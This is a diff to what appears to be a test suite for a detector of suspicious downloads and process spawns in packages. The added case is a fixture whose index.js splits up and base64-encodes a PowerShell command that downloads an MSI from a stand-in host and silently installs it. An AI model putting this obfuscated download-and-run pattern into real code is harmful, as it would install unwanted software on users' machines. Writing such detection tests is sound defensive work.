@@ -12,6 +12,13 @@ examine(downloadsAndSpawns, {
       says: ['clipboard'],
     },
     {
+      when: 'a download is put together of pieces and encoded for PowerShell on the spot',
+      files: {
+        'index.js': `const pieces = ['Start-Bits', 'Transfer -Source https://fix.invalid/app.msi -Destination $env:TEMP\\\\u.msi; msi', 'exec /i $env:TEMP\\\\u.msi /qn'];
+          require('child_process').exec('powershell -EncodedCommand ' + Buffer.from(pieces.join(''), 'utf16le').toString('base64'))`,
+      },
+    },
+    {
       when: 'a library has put its functions among the globals',
       files: {
         'package.json': { name: 'specimen', type: 'module' },
